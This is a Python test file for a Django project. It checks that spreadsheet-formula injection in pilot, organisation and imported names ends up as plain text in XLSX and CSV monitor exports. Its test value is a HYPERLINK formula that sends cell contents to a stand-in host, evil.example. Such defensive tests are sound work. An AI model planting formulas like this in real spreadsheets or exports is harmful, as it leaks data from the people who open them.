"""Formula injection (issue 14, item 5): a name that looks like a spreadsheet formula reaches
SBB's national export as text, never as a live formula.

The routes in are the pilot API, the browser forms (pilot, organisation) and a
brancheorganisatie in `verklaringen.csv` of the Praktijkloket import. The routes out are the
monitor export as XLSX (a text cell, `data_type == "s"`) and as CSV (the field starts with `'`),
over the API (`?format=csv`), the browser download and the `monitor_export` command.
"""

from __future__ import annotations

import ast
import csv
import io
import os
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from rest_framework.test import APIClient

from monitoring.importeren import importeer_praktijkloket
from pilots.models import Organisatie, Pilot
from pilots.roles import Role
from praktijkleren.spreadsheet import CsvWriter, csv_cel, xlsx_cel, xlsx_rij

from .factories import MembershipFactory, UserFactory
from .shared_formats import EXAMPLE

pytestmark = pytest.mark.django_db

FORMULE = '=HYPERLINK("http://evil.example/?"&B2,"klik")'
PEILDATUM = "2021-01-13"
API = "/api/v1/monitor-export/"


def _example_files(**vervang: list[list[str]]) -> dict[str, bytes]:
    """The Praktijkloket example as uploaded files; `vervang` replaces whole files (rows)."""
    files = {p.name: p.read_bytes() for p in EXAMPLE.glob("*.csv")}
    for naam, rows in vervang.items():
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(rows)
        files[f"{naam}.csv"] = out.getvalue().encode("utf-8")
    return files


def _rows(naam: str) -> list[list[str]]:
    with (EXAMPLE / f"{naam}.csv").open(encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.fixture
def imported() -> None:
    """The example, with a formula for a brancheorganisatie in the first verklaring."""
    verklaringen = _rows("verklaringen")
    kolom = verklaringen[0].index("brancheorganisaties")
    verklaringen[1][kolom] = FORMULE
    result = importeer_praktijkloket(map=_example_files(verklaringen=verklaringen))
    assert result.errors == []


@pytest.fixture
def projectleider(imported: None) -> Any:
    user = UserFactory(email="pl@noorderkwartier.test")
    MembershipFactory(
        user=user, pilot=Pilot.objects.get(code="noorderkwartier"), role=Role.PROJECTLEIDER
    )
    return user


@pytest.fixture
def sbb(imported: None) -> Any:
    user = UserFactory(email="monitor@sbb.test")
    MembershipFactory(user=user, pilot=None, role=Role.SBB_MONITOR)
    return user


def _csv_export(user: Any) -> dict[str, list[dict[str, str]]]:
    client = APIClient()
    client.force_authenticate(user)
    response = client.get(API, {"peildatum": PEILDATUM, "format": "csv"})
    assert response.status_code == 200
    tabellen = {}
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for naam in archive.namelist():
            text = archive.read(naam).decode("utf-8")
            tabellen[naam.removesuffix(".csv")] = list(csv.DictReader(io.StringIO(text)))
    return tabellen


def _xlsx_export(user: Any) -> Workbook:
    browser = Client()
    browser.force_login(user)
    response = browser.get(reverse("monitoring:export"), {"peildatum": PEILDATUM, "format": "xlsx"})
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _cell(workbook: Workbook, sheet: str, kolom: str, value: str) -> Any:
    """The cell of column `kolom` in sheet `sheet` whose text is `value`."""
    ws = workbook[sheet]
    header = [c.value for c in ws[1]]
    index = header.index(kolom)
    cells = [row[index] for row in ws.iter_rows(min_row=2) if row[index].value == value]
    assert len(cells) == 1, f"{value!r} not once in {sheet}.{kolom}"
    return cells[0]


def _assert_text_in_both(user: Any, sheet: str, kolom: str) -> None:
    cell = _cell(_xlsx_export(user), sheet, kolom, FORMULE)
    assert cell.data_type == "s", "a formula-like name must be a text cell, not a formula"
    assert cell.value.startswith('=HYPERLINK("http://evil.example/')

    values = [row[kolom] for row in _csv_export(user)[sheet]]
    assert "'" + FORMULE in values
    assert FORMULE not in values


class TestEveryRouteInEndsAsText:
    def test_a_pilot_renamed_through_the_api(self, projectleider, sbb):
        client = APIClient()
        client.force_authenticate(projectleider)
        response = client.patch("/api/v1/pilots/noorderkwartier/", {"naam": FORMULE}, format="json")
        assert response.status_code == 200, response.content
        _assert_text_in_both(sbb, "per_pilot", "naam")

    def test_a_pilot_renamed_in_the_browser(self, projectleider, sbb):
        pilot = Pilot.objects.get(code="noorderkwartier")
        browser = Client()
        browser.force_login(projectleider)
        data = {
            "naam": FORMULE,
            "soort": pilot.soort,
            "tranche": pilot.tranche,
            "arbeidsmarktregio": pilot.arbeidsmarktregio,
            "doelgroep": pilot.doelgroep,
            "startdatum": pilot.startdatum.isoformat(),
            "streefaantal": pilot.streefaantal or "",
            "bewaartermijn_maanden": pilot.bewaartermijn_maanden,
        }
        response = browser.post(reverse("pilots:pilot-update", args=[pilot.code]), data)
        assert response.status_code == 302, response.content.decode()[:2000]
        _assert_text_in_both(sbb, "per_pilot", "naam")

    def test_an_mbo_instelling_renamed_in_the_browser(self, projectleider, sbb):
        mbo = Organisatie.objects.get(naam="Noorderpoort")
        browser = Client()
        browser.force_login(projectleider)
        data = {
            "naam": FORMULE,
            "soort": mbo.soort,
            "plaats": mbo.plaats,
            "bekostigd": "true",
            "brin": mbo.brin,
            "email": mbo.email,
        }
        response = browser.post(reverse("pilots:organisatie-update", args=[mbo.pk]), data)
        assert response.status_code == 302, response.content.decode()[:2000]
        _assert_text_in_both(sbb, "per_mbo_instelling", "mbo_instelling")

    def test_a_brancheorganisatie_from_the_verklaringen_import(self, sbb):
        _assert_text_in_both(sbb, "per_brancheorganisatie", "brancheorganisaties")

    def test_the_command_writes_text_too(self, imported, tmp_path: Path):
        folder = tmp_path / "csv"
        call_command(
            "monitor_export", "--peildatum", PEILDATUM, "--format", "csv",
            "--output", str(folder), stdout=io.StringIO(),
        )  # fmt: skip
        with (folder / "per_brancheorganisatie.csv").open(encoding="utf-8") as f:
            assert "'" + FORMULE in [row["brancheorganisaties"] for row in csv.DictReader(f)]
        target = tmp_path / "export.xlsx"
        call_command(
            "monitor_export", "--peildatum", PEILDATUM, "--format", "xlsx",
            "--output", str(target), stdout=io.StringIO(),
        )  # fmt: skip
        cell = _cell(
            load_workbook(target), "per_brancheorganisatie", "brancheorganisaties", FORMULE
        )
        assert cell.data_type == "s"

    def test_counts_stay_numbers(self, sbb):
        ws = _xlsx_export(sbb)["totalen"]
        header = [c.value for c in ws[1]]
        deelnemers = ws.cell(row=2, column=header.index("deelnemers") + 1)
        assert deelnemers.data_type == "n" and isinstance(deelnemers.value, int)
        assert _csv_export(sbb)["totalen"][0]["deelnemers"].isdigit()


class TestTheKernelHelpers:
    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_every_dangerous_start_is_neutralised(self, start):
        value = f"{start}1+2"
        assert csv_cel(value) == "'" + value
        workbook = Workbook()
        cell = workbook.active.cell(row=1, column=1)
        xlsx_cel(cell, value)
        assert cell.data_type == "s" and cell.value == value and cell.quotePrefix

    @pytest.mark.parametrize("value", ["Noorderpoort", "", "1-2", "a=b", "'al tekst"])
    def test_ordinary_text_is_left_alone(self, value):
        assert csv_cel(value) == value

    @pytest.mark.parametrize("value", [-3, -2.5, 0, 7, None, date(2021, 1, 13)])
    def test_other_values_keep_their_type(self, value):
        assert csv_cel(value) == value
        workbook = Workbook()
        cell = workbook.active.cell(row=1, column=1)
        xlsx_cel(cell, value)
        assert cell.data_type != "f"
        if isinstance(value, int | float):
            assert cell.data_type == "n" and cell.value == value

    def test_a_written_workbook_reads_back_as_text_and_numbers(self):
        workbook = Workbook()
        xlsx_rij(workbook.active, [FORMULE, -4, "@SUM(A1)"])
        buffer = io.BytesIO()
        workbook.save(buffer)
        row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
        assert [(c.value, c.data_type) for c in row] == [
            (FORMULE, "s"),
            (-4, "n"),
            ("@SUM(A1)", "s"),
        ]

    def test_the_csv_writer_neutralises_every_row(self):
        out = io.StringIO()
        writer = CsvWriter(out, lineterminator="\n")
        writer.writerow(["naam", "aantal"])
        writer.writerows([[FORMULE, -1], ["+31", 2]])
        assert list(csv.reader(io.StringIO(out.getvalue()))) == [
            ["naam", "aantal"], ["'" + FORMULE, "-1"], ["'+31", "2"],
        ]  # fmt: skip


# Modules that may use csv.writer or openpyxl's Workbook directly: the helper itself, and the
# import readers that turn an uploaded XLSX into CSV for the CSV reader (nothing downloaded).
TOEGESTAAN = {
    "praktijkleren/spreadsheet.py",
    "monitoring/importeren/bestanden.py",
    "kwalificaties/bestanden.py",
}


def _product_modules() -> list[Path]:
    base = Path(settings.BASE_DIR)
    skip = {"tests", "bench", "migrations", "node_modules", "staticfiles", "media", "locale"}
    found = []
    for folder, dirs, files in os.walk(base):
        dirs[:] = [d for d in dirs if d not in skip and not d.startswith(".")]
        found += [Path(folder) / f for f in files if f.endswith(".py")]
    return found


def test_every_spreadsheet_writer_goes_through_the_kernel_helper():
    base = Path(settings.BASE_DIR)
    offenders = []
    for path in _product_modules():
        rel = path.relative_to(base).as_posix()
        if rel in TOEGESTAAN:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{rel}:{node.lineno} csv.{node.attr}")
            if (
                isinstance(node, ast.ImportFrom)
                and node.module == "openpyxl"
                and any(a.name == "Workbook" for a in node.names)
            ):
                offenders.append(f"{rel}:{node.lineno} openpyxl.Workbook")
    assert not offenders, "write spreadsheets with praktijkleren.spreadsheet:\n" + "\n".join(
        offenders
    )
